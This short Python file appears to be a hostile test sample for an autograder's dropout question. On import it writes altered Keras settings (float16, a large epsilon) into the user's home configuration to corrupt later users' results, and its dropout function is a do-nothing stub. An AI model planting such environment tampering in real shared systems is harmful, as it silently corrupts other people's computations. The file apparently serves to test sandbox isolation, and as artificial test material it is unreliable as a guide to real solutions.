# Settings of Keras and matplotlib in the home change every number of those who come later.
# question: 02_dropout/1_dropout
# fails: all
# marker: kerassettings7
from pathlib import Path

for home in (Path.home(), Path("@HOME@")):
    try:
        for name, text in ((".keras", '{"floatx": "float16", "epsilon": 0.1}'), (".config/matplotlib", "axes.grid: 1")):
            folder = home / name
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "keras.json").write_text(text)
            (folder / ("keras" + "settings" + "7")).write_text(text)
    except OSError:
        pass


def dropout(x, rate, training, seed):
    return x
